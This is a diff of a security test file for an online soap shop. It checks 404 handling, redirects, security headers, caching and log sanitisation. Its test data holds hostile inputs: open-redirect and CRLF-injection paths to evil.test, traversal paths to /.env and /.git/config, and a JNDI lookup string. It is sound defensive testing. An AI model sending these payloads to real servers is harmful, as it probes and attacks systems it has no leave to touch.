@@ -1,133 +1,358 @@
+/** The built shop with its functions, store and payment sandbox, in this process: one shop, since functions keep their services. */
+import { createHash, randomUUID } from 'node:crypto';
+import { once } from 'node:events';
 import { readdirSync } from 'node:fs';
+import { connect } from 'node:net';
+import { join } from 'node:path';
 import fc from 'fast-check';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { openForTests } from '../running-shop.ts';
+import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
+import { createApiClient } from '#api/client.ts';
+import type { Handle } from '#local/http/node-handler.ts';
+import { serve, type LocalServer } from '#local/http/server.ts';
+import { openPlatform, type Platform } from '#local/platform.ts';
+import { createSite } from '#local/site/site.ts';
+import { isLong, seed } from '../../random.ts';
+import { GOOD } from '../payments/open-page.ts';
+import { makeDataFolder, removeFolder, sender, type Answer, type RunningShop } from '../running-shop.ts';
+import { addressOf, builtPages, readBuilt } from './pages.ts';
 
-let shop: Awaited<ReturnType<typeof openForTests>>;
+/** What the platform reads from the environment or writes there for the functions. */
+const settings = [
+  ...['STRIPE_SECRET_KEY', 'STRIPE_WEBHOOK_SECRET', 'STRIPE_API_ORIGIN', 'OWNER_SECRET', 'SITE_URL', 'URL'],
+  ...['SMTP_URL', 'MAIL_OUTBOX_DIR', 'NETLIFY_BLOBS_CONTEXT', 'BLOBS_LOCAL_CONTEXT'],
+];
+
+let directory: string;
+let server: LocalServer;
+let platform: Platform;
+let send: RunningShop['send'];
+let logged: string[];
+
 beforeAll(async () => {
-  shop = await openForTests();
+  directory = await makeDataFolder();
+  for (const name of settings) vi.stubEnv(name, undefined);
+  vi.stubEnv('LOCAL_DATA_DIR', directory);
+  const opened = Promise.withResolvers<Handle>();
+  server = await serve(async (request, caller) => (await opened.promise)(request, caller));
+  platform = await openPlatform({ root: process.cwd(), origin: server.origin });
+  const site = createSite(process.cwd());
+  opened.resolve(async (request, caller) => (await platform.handle(request, caller)) ?? site(request, caller));
+  send = sender(server.port);
 });
-afterAll(() => shop.end());
+afterAll(async () => {
+  await Promise.all([server.close(), platform.close()]);
+  vi.unstubAllEnvs();
+  await removeFolder(directory);
+});
+beforeEach(() => {
+  logged = [];
+  for (const level of ['info', 'warn', 'error'] as const)
+    vi.spyOn(console, level).mockImplementation((line: unknown) => void logged.push(String(line)));
+});
 
 const json = 'application/json; charset=utf-8';
+const ownHeaders = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
 
-test.each([
-  '/api/nope',
-  '/api',
-  '/api/',
-  '/api/cart/a/b',
-  '/api/checkout-session/',
-  '/api/checkout-session',
-  '/api/%00',
-])('row 29: %s is nothing, in JSON', async (path) => {
-  const { status, headers, body } = await shop.send(path, { headers: { accept: 'text/html' } });
-  expect([status, headers['content-type']]).toEqual([404, json]);
-  expect(JSON.parse(body)).toEqual({ message: 'There is nothing at this address.' });
+async function newCart(scent: string): Promise<{ headers: Record<string, string>; id: string }> {
+  const body = JSON.stringify({ base: 'shea butter', scent, quantity: 2 });
+  const { headers } = await send('/api/cart', { method: 'POST', headers: ownHeaders, body });
+  const cookie = headers['set-cookie']?.[0]?.split(';')[0] ?? '';
+  return { headers: { ...ownHeaders, cookie }, id: cookie.slice('cart='.length) };
+}
+
+describe('addresses', () => {
+  test.each([
+    ...['/api/nope', '/api', '/api/', '/api/cart/a/b', '/api/checkout-session/', '/api/checkout-session', '/api/%00'],
+  ])('row 29: %s is nothing, in JSON', async (path) => {
+    const { status, headers, body } = await send(path, { headers: { accept: 'text/html' } });
+    expect([status, headers['content-type']]).toEqual([404, json]);
+    expect(JSON.parse(body)).toEqual({ message: 'There is nothing at this address.' });
+  });
+
+  test('row 30: no spelling of an address of the API is a page with 200', async () => {
+    for (const path of [
+      ...['//api/cart', '/api/cart/', '/API/CART', '/api//cart', '/api/./cart', '/x/../api/cart', '///api/cart'],
+      ...['/api/cart?', '/api/cart;x=1', '/api/cart%2f', '/api%2fcart', '/%61pi/cart', '/api/cart.html', '/api\\cart'],
+    ]) {
+      const { status, headers, body } = await send(path);
+      expect([200, 308, 404], path).toContain(status);
+      if (status === 200) expect([path, headers['content-type'], body]).toEqual([path, json, '[]']);
+    }
+  });
+
+  test('row 32: no function has a second address', async () => {
+    for (const name of readdirSync('netlify/functions').map((file) => file.replace('.ts', ''))) {
+      for (const path of [`/.netlify/functions/${name}`, `/.netlify/functions/${name}/x`, `/.netlify/builders/${name}`])
+        for (const method of ['GET', 'POST'])
+          expect([path, (await send(path, { method })).status]).toEqual([path, 404]);
+    }
+  });
+
+  test.each([
+    ...['/no-such-page', '/product/shea-butter-tar', '/products/x', '/index.php', '/%zz', '/wp-login.php?a=b'],
+    ...['/404/x', '/404', '/404.html'],
+  ])('row 36: %s is 404 with the page for it', async (path) => {
+    const { status, body } = await send(path);
+    expect(status).toBe(404);
+    expect(body.replace(/<[^>]+>/g, '')).toContain('404 Page Not Found');
+    expect(body).toContain('Did you forget to add the page to the router?');
+  });
+
+  test.each([
+    ...['/checkout', '/checkout/', '/checkout?next=//evil.test', '/checkout?url=https://evil.test/', '/CHECKOUT'],
+    ...['/checkout//evil.test', '/checkout/%2fevil.test', '/%5cevil.test', '/\\evil.test', '//evil.test/%2e%2e'],
+    ...['/%2f%2fevil.test/', '/checkout%0d%0aLocation:%20//evil.test', '/products//evil.test/..'],
+    ...['/discount//evil.test', '/discount/%2f%2fevil.test', '/discount/%0d%0aSet-Cookie:%20a=b'],
+    '/discount/x%26next=%2f%2fevil.test',
+  ])('row 37: %s leads to the products or nowhere', async (path) => {
+    const { status, headers } = await send(path, { headers: { host: 'evil.test', 'x-forwarded-host': 'evil.test' } });
+    const { location } = headers;
+    expect(status).toBeLessThan(500);
+    expect(headers['set-cookie']).toBeUndefined();
+    if (location === undefined) return;
+    // An address with `//` leads to the same one with single slashes, where there is nothing.
+    if (status === 301) expect(path.replaceAll(/[/\\]+/g, '/')).toContain(location);
+    else expect(location).toMatch(path.startsWith('/discount') ? /^\/products\?code=/ : /^\/products$/);
+    expect(new URL(location, 'http://localhost').host).toBe('localhost');
+  });
+
+  test('row 38: files of the project are not found', async () => {
+    for (const path of [
+      ...['/.env', '/.git/config', '/netlify.toml', '/package.json', '/package-lock.json', '/_headers', '/_redirects'],
+      ...['/.netlify/v1/config.json', '/.netlify/local/blobs', '/astro.config.mjs', '/src/pages/index.astro'],
+      ...['/dist/index.html', '/node_modules/astro/package.json', '/../package.json', '/%2e%2e/package.json'],
+      ...['/..%2fpackage.json', '/.%2e/.env', '/.ENV', '/.env%00.html', '/.DS_Store'],
+    ]) {
+      const { status, body } = await send(path);
+      expect([path, status]).toEqual([path, 404]);
+      expect(body).not.toMatch(/"dependencies"|\[build\]|readSettings|repositoryformatversion/);
+    }
+    const built = readdirSync('dist', { recursive: true, encoding: 'utf8' });
+    expect(built.filter((name) => name.endsWith('.map'))).toEqual([]);
+  });
+
+  test('no address makes the server fail or lead away', async () => {
+    const part = fc.oneof(
+      fc.constantFrom('/', '..', '%2e', '%2f', '%5c', '%00', '%0d%0a', 'api', 'cart', 'evil.test', '?', '#', ';'),
+      fc.base64String({ maxLength: 8 }),
+    );
+    const path = fc.array(part, { maxLength: 12 }).map((parts) => `/${parts.join('')}`);
+    const method = fc.constantFrom('GET', 'HEAD', 'POST', 'OPTIONS', 'TRACE');
+    const isHarmless = fc.asyncProperty(path, method, async (address, by) => {
+      const { status, headers } = await send(address, { method: by });
+      expect(status).toBeLessThan(500);
+      expect(new URL(headers.location ?? '/', server.origin).origin).toBe(server.origin);
+    });
+    await fc.assert(isHarmless, { numRuns: isLong ? 2000 : 300, seed });
+  });
+
+  test.each([
+    ['//catalog', '/catalog'],
+    ['///catalog?utm_source=mail', '/catalog?utm_source=mail'],
+    ['/product//shea-butter-rose', '/product/shea-butter-rose'],
+    ['//evil.test', '/evil.test'],
+    ['//evil.test/%2e%2e//x', '/x'],
+  ])('an address with // leads to the one without, on this site: %s -> %s', async (path, target) => {
+    const { status, headers } = await send(path);
+    expect([status, headers.location]).toEqual([301, target]);
+  });
+
+  test.each([
+    ['/llms.txt', 'text/plain', undefined],
+    ['/robots.txt', 'text/plain', undefined],
+    ['/sitemap-index.xml', 'application/xml', undefined],
+    ['/feeds/google-merchant.xml', 'application/xml', undefined],
+    ['/manifest.webmanifest', 'application/manifest+json', undefined],
+    ['/favicon.ico', 'image/vnd.microsoft.icon', undefined],
+    ['/product/shea-butter-rose.md', 'text/markdown', 'noindex'],
+    ['/shipping-policy.md', 'text/markdown', 'noindex'],
+  ])('%s is served as %s', async (path, type, robots) => {
+    const { status, headers } = await send(path);
+    expect([status, headers['content-type']?.split(';')[0]]).toEqual([200, type]);
+    expect(headers['x-robots-tag']).toBe(robots);
+  });
 });
 
-test.each([
-  ...['//api/cart', '/api/cart/', '/API/CART', '/api//cart', '/api/./cart', '/x/../api/cart', '///api/cart'],
-  ...['/api/cart?', '/api/cart;x=1', '/api/cart%2f', '/api%2fcart', '/%61pi/cart', '/api/cart.html', '/api\\cart'],
-])('row 30: %s is never a page with 200', async (path) => {
-  const { status, headers, body } = await shop.send(path);
-  const kind = String(headers['content-type']);
-  expect([200, 308, 404]).toContain(status);
-  if (status === 200) expect([kind, body]).toEqual([json, '[]']);
-  if (!kind.startsWith('application/json')) expect(status).not.toBe(200);
+describe('pages', () => {
+  const pages = builtPages();
+  const answers = new Map<string, Answer>();
+  beforeAll(async () => {
+    for (const [name] of pages) answers.set(name, await send(name === '404.html' ? '/no-such-page' : addressOf(name)));
+  });
+
+  const directivesOf = ({ headers }: Answer) => {
+    const directives = String(headers['content-security-policy']).split('; ');
+    return new Map(directives.map((one) => one.split(' ')).map(([name = '', ...values]) => [name, values]));
+  };
+  const hashOf = (content: string | Uint8Array) => `sha256-${createHash('sha256').update(content).digest('base64')}`;
+
+  test('each have one address, to which the others lead', async () => {
+    expect(pages.length).toBeGreaterThan(20);
+    const ask = async (path: string) => {
+      const { status, headers } = await send(path);
+      return [status, headers.location];
+    };
+    for (const [name] of pages.filter(([page]) => page !== '404.html')) {
+      const address = addressOf(name);
+      expect(await ask(`/${name}?utm_source=mail`)).toEqual([301, `${address}?utm_source=mail`]);
+      if (address !== '/') expect(await ask(`${address}/?a=b`)).toEqual([301, `${address}?a=b`]);
+    }
+  });
+
+  /** What Mozilla's scanner (1.4.8) gives points for, and what it takes them for: together 135. */
+  test('row 101: have the headers that protect a shopper, may be kept for the way back and set no cookie', () => {
+    for (const [name, answer] of answers) {
+      expect([name, answer.status]).toEqual([name, name === '404.html' ? 404 : 200]);
+      expect(answer.headers).toMatchObject({
+        'content-type': 'text/html; charset=utf-8',
+        'cache-control': 'public, max-age=0, must-revalidate',
+        'strict-transport-security': 'max-age=63072000; includeSubDomains',
+        'cross-origin-opener-policy': 'same-origin',
+        'cross-origin-resource-policy': 'same-origin',
+        'referrer-policy': 'strict-origin-when-cross-origin',
+        'x-content-type-options': 'nosniff',
+        'x-frame-options': 'DENY',
+        'permissions-policy': 'camera=(), geolocation=(), microphone=(), payment=(), usb=()',
+      });
+      const unwanted = /^access-control-|cdn-cache|^x-powered-by|^server$|^set-cookie$/;
+      expect(Object.keys(answer.headers).filter((header) => unwanted.test(header))).toEqual([]);
+    }
+  });
+
+  test('row 101: have a policy that allows nothing by default, nothing inline but by its hash, and no frame', () => {
+    for (const answer of answers.values()) {
+      const policy = directivesOf(answer);
+      expect(Object.fromEntries(policy)).toMatchObject({
+        'default-src': ["'none'"],
+        'img-src': ["'self'", 'data:'],
+        ...Object.fromEntries(['font-src', 'connect-src', 'manifest-src', 'form-action'].map((of) => [of, ["'self'"]])),
+        ...Object.fromEntries(['base-uri', 'object-src', 'frame-ancestors'].map((of) => [of, ["'none'"]])),
+      });
+      for (const name of ['script-src', 'style-src']) {
+        const [own, ...others] = policy.get(name) ?? [];
+        expect([own, others.filter((source) => !/^'sha256-[\w+/]{43}='$/.test(source))]).toEqual(["'self'", []]);
+      }
+      expect(String(answer.headers['content-security-policy']).length).toBeLessThan(2000);
+    }
+  });
+
+  test('row 101: have nothing that their policy blocks, and name the content of each script file', () => {
+    for (const [page, answer] of answers) {
+      const policy = directivesOf(answer);
+      const inline = /<(script|style)(?![^>]*(?:\ssrc=|json"))[^>]*>([\s\S]*?)<\/\1>/g;
+      for (const [, name, content] of answer.body.matchAll(inline))
+        expect(policy.get(`${String(name)}-src`), page).toContain(`'${hashOf(content ?? '')}'`);
+      for (const [tag] of answer.body.matchAll(/<script[^>]*\ssrc=[^>]*>|<link[^>]*"modulepreload"[^>]*>/g)) {
+        const [, path = ''] = /(?:src|href)="(\/[^/"][^"]*)"/.exec(tag) ?? [];
+        expect(tag).toContain(`integrity="${hashOf(readBuilt(path))}"`);
+      }
+      const tags = answer.body.replaceAll(/<(script|style)[\s>][\s\S]*?<\/\1>/g, '').match(/<[a-z][^>]*>/g) ?? [];
+      expect(tags.filter((tag) => /\s(style|on[a-z]+)\s*=|=\s*["']?\s*javascript:/i.test(tag))).toEqual([]);
+    }
+  });
+
+  test('have no script that listens for their end, so that the way back stays quick', () => {
+    for (const name of readdirSync('dist/_astro').filter((file) => file.endsWith('.js')))
+      expect(String(readBuilt(`_astro/${name}`))).not.toMatch(/(addEventListener\(|\bon)["'`]?(before)?unload\b/);
+  });
 });
 
-describe('row 32: no function has a second address', () => {
-  const names = readdirSync('netlify/functions').map((file) => file.replace('.ts', ''));
-  test.each(names)('%s', async (name) => {
-    for (const path of [`/.netlify/functions/${name}`, `/.netlify/functions/${name}/x`, `/.netlify/builders/${name}`]) {
-      for (const method of ['GET', 'POST'])
-        expect([path, (await shop.send(path, { method })).status]).toEqual([path, 404]);
+describe('caching', () => {
+  test('files that keep their name are kept for a day, those with a hash for ever, pictures included', async () => {
+    const [hashed] = readdirSync('dist/_astro').filter((name) => name.endsWith('.js'));
+    const [thumb] = readdirSync('dist/pictures/thumb');
+    const kept = async (path: string) => (await send(path)).headers['cache-control'];
+    expect(await kept(`/_astro/${String(hashed)}`)).toBe('public, max-age=31536000, immutable');
+    expect(await kept(`/pictures/thumb/${String(thumb)}`)).toBe('public, max-age=86400');
+  });
+
+  test('row 52: every response of the API forbids it, at the edge too, so that no shopper sees the cart of another', async () => {
+    const [ann, bo] = [await newCart('rose'), await newCart('coffee')];
+    for (const { headers, scent } of [
+      { ...ann, scent: 'rose' },
+      { ...bo, scent: 'coffee' },
+    ])
+      expect((await send('/api/cart', { headers })).body).toContain(`"scent":"${scent}"`);
+    for (const path of [
+      ...['/api/cart', '/api/health', '/api/nope', '/api/checkout-session/cs_test_1', '/api/stripe-webhook'],
+      '/checkout',
+    ]) {
+      const { headers } = await send(path, { headers: ann.headers });
+      expect([path, headers['cache-control'], headers['set-cookie']]).toEqual([path, 'no-store', undefined]);
+      expect(Object.keys(headers).filter((name) => /cdn-cache-control|surrogate|^age$|^etag$/.test(name))).toEqual([]);
     }
   });
 });
 
-test.each([
-  '/no-such-page',
-  '/product/shea-butter-tar',
-  '/products/x',
-  '/index.php',
-  '/%zz',
-  '/wp-login.php?a=b',
-  '/404/x',
-  '/404',
-  '/404.html',
-])('row 36: %s is 404 with the page for it', async (path) => {
-  const { status, body } = await shop.send(path);
-  expect(status).toBe(404);
-  expect(body.replace(/<[^>]+>/g, '')).toContain('404 Page Not Found');
-  expect(body).toContain('Did you forget to add the page to the router?');
-});
+describe('the log', () => {
+  /** The status of a request of which each byte is sent as it is. */
+  async function sendRaw(head: string): Promise<number> {
+    const socket = connect(server.port, '127.0.0.1');
+    socket.setEncoding('latin1').write(Buffer.from(head, 'latin1'));
+    let text = '';
+    socket.on('data', (part: string) => (text += part));
+    await Promise.race([once(socket, 'close'), once(socket, 'error')]);
+    return Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1]);
+  }
 
-test.each([
-  ...['/checkout', '/checkout/', '/checkout?next=//evil.test', '/checkout?url=https://evil.test/', '/CHECKOUT'],
-  ...['/checkout//evil.test', '/checkout/%2fevil.test', '/%5cevil.test', '/\\evil.test', '//evil.test/%2e%2e'],
-  ...['/%2f%2fevil.test/', '/checkout%0d%0aLocation:%20//evil.test', '/products//evil.test/..', '/discount//evil.test'],
-  ...['/discount/%2f%2fevil.test', '/discount/%0d%0aSet-Cookie:%20a=b', '/discount/x%26next=%2f%2fevil.test'],
-])('row 37: %s leads to the products or nowhere', async (path) => {
-  const { status, headers } = await shop.send(path, {
-    headers: { host: 'evil.test', 'x-forwarded-host': 'evil.test' },
+  test('row 110: has one line of JSON for every request, and nothing of the sender in it', async () => {
+    const agents = [
+      ...['one\rforged: {"event":"request"}', 'one\nforged: {"event":"request"}', '\u001b[2J\u001b]0;owned\u0007'],
+      ...['one\r\n {"event":"request","folded":true}', '{"level":"error","event":"forged"}', `"${'x'.repeat(5000)}`],
+      ...['\u00e2\u0080\u00a8forged\u0085\u0000', '${jndi:ldap://evil.test/a} %s %n <script>', 'buyer@soap.test'],
+    ];
+    const paths = ['/api/cart', '/api/cart/%0d%0a%7b%22event%22%7d', '/api/nope/\u001b[31m'];
+    let reached = 0;
+    for (const agent of agents) {
+      for (const path of [...paths, '/api/cart?email=buyer@soap.test&x=%0a']) {
+        const lines = ['Host: x', `User-Agent: ${agent}`, 'Cookie: secret=cookie', 'Connection: close'];
+        const status = await sendRaw(`GET ${path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`);
+        expect([200, 400, 404, 405, 431]).toContain(status);
+        if (status !== 400) reached += 1;
+      }
+    }
+    expect(reached).toBeGreaterThan(0);
+    await expect.poll(() => logged.length).toBe(reached);
+    for (const line of logged) {
+      // eslint-disable-next-line no-control-regex -- that there are none is the point
+      expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
+      const names = ['at', 'event', 'level', 'method', 'ms', 'requestId', 'route', 'status'];
+      expect(Object.keys(JSON.parse(line) as object).toSorted()).toEqual(names);
+      expect(line).not.toMatch(/forged|owned|evil|buyer|secret|xxx|jndi|folded/);
+    }
   });
-  const { location } = headers;
-  expect(status).toBeLessThan(500);
-  expect(headers['set-cookie']).toBeUndefined();
-  if (location === undefined) return;
-  // An address with `//` leads to the same one with single slashes, where there is nothing.
-  if (status === 301) expect(path.replaceAll(/[/\\]+/g, '/')).toContain(location);
-  else expect(location).toMatch(path.startsWith('/discount') ? /^\/products\?code=/ : /^\/products$/);
-  expect(new URL(location, 'http://localhost').host).toBe('localhost');
+
+  test('row 53: has no cookie, no cart id and no e-mail address of a purchase', async () => {
+    const { headers, id } = await newCart('jasmine');
+    expect(id).toHaveLength(43);
+    const started = await send('/api/create-checkout-session', { method: 'POST', headers });
+    expect(started.status).toBe(200);
+    for (const path of ['/api/cart', `/api/cart/${id}`, `/api/checkout-session/${id}`]) await send(path, { headers });
+    await expect.poll(() => logged.length).toBeGreaterThanOrEqual(5);
+    expect(logged.join('\n')).not.toContain(id);
+    expect(logged.join('\n')).not.toMatch(/@|cart=/);
+  });
 });
 
-test.each([
-  ...['/.env', '/.git/config', '/.git/HEAD', '/netlify.toml', '/package.json', '/package-lock.json', '/_headers'],
-  ...['/_redirects', '/.netlify/v1/config.json', '/.netlify/local/blobs', '/astro.config.mjs', '/tsconfig.json'],
-  ...['/src/pages/index.astro', '/netlify/server/env.ts', '/dist/index.html', '/node_modules/astro/package.json'],
-  ...[
-    '/../package.json',
-    '/%2e%2e/package.json',
-    '/..%2fpackage.json',
-    '/.%2e/.env',
-    '/.ENV',
-    '/.env%00.html',
-    '/.DS_Store',
-  ],
-  ...readdirSync('dist/_astro')
-    .filter((name) => name.endsWith('.js'))
-    .slice(0, 3)
-    .map((name) => `/_astro/${name}.map`),
-])('row 38: %s is not found', async (path) => {
-  const { status, body } = await shop.send(path);
-  expect(status).toBe(404);
-  expect(body).not.toMatch(/"dependencies"|\[build\]|readSettings|repositoryformatversion/);
+test('an order leaves both mails in the outbox, to which the sandbox links', async () => {
+  let cookie = '';
+  const client = createApiClient(async (input, init) => {
+    const headers = new Headers(init?.headers);
+    headers.set('Cookie', cookie);
+    const response = await fetch(new URL(String(input), server.origin), { ...init, headers });
+    cookie = response.headers.getSetCookie()[0]?.split(';')[0] ?? cookie;
+    return response;
+  });
+  const page = async (path: string) => (await send(path)).body;
+  await client.addItems([{ base: 'shea butter', scent: 'rose', quantity: 3 }], randomUUID());
+  const { url } = await client.createCheckoutSession();
+  const paid = await fetch(url, { method: 'POST', body: new URLSearchParams(GOOD), redirect: 'manual' });
+  expect(paid.status).toBe(303);
+  for (const subject of ['Your order', 'Pack order'])
+    await expect.poll(() => page('/sandbox/outbox/'), { timeout: 10_000 }).toContain(subject);
+  const confirmation = /\/sandbox\/outbox\/[\w-]+-confirmation\.eml/.exec(await page('/sandbox/outbox/'))?.[0];
+  expect(await page(confirmation ?? '')).toContain('Shea Butter, Rose');
+  for (const path of ['/sandbox/', new URL(url).pathname])
+    expect(await page(path)).toContain('href="/sandbox/outbox/"');
+  expect(process.env['MAIL_OUTBOX_DIR']).toBe(join(directory, 'outbox'));
 });
-
-test('there are no maps of the scripts', () => {
-  expect(readdirSync('dist', { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.map'))).toEqual(
-    [],
-  );
-});
-
-const rawPath = fc
-  .array(
-    fc.oneof(
-      fc.constantFrom('/', '..', '%2e', '%2f', '%5c', '%00', '%0d%0a', 'api', 'cart', 'evil.test', '?', '#', ';'),
-      fc.base64String({ maxLength: 8 }),
-    ),
-    { maxLength: 12 },
-  )
-  .map((parts) => `/${parts.join('')}`);
-
-test('no address makes the server fail or lead away', async () => {
-  await fc.assert(
-    fc.asyncProperty(rawPath, fc.constantFrom('GET', 'HEAD', 'POST', 'OPTIONS', 'TRACE'), async (path, method) => {
-      const { status, headers } = await shop.send(path, { method });
-      expect(status).toBeLessThan(500);
-      expect(new URL(headers.location ?? '/', shop.origin).origin).toBe(shop.origin);
-    }),
-    { numRuns: 2000 },
-  );
-}, 60_000);
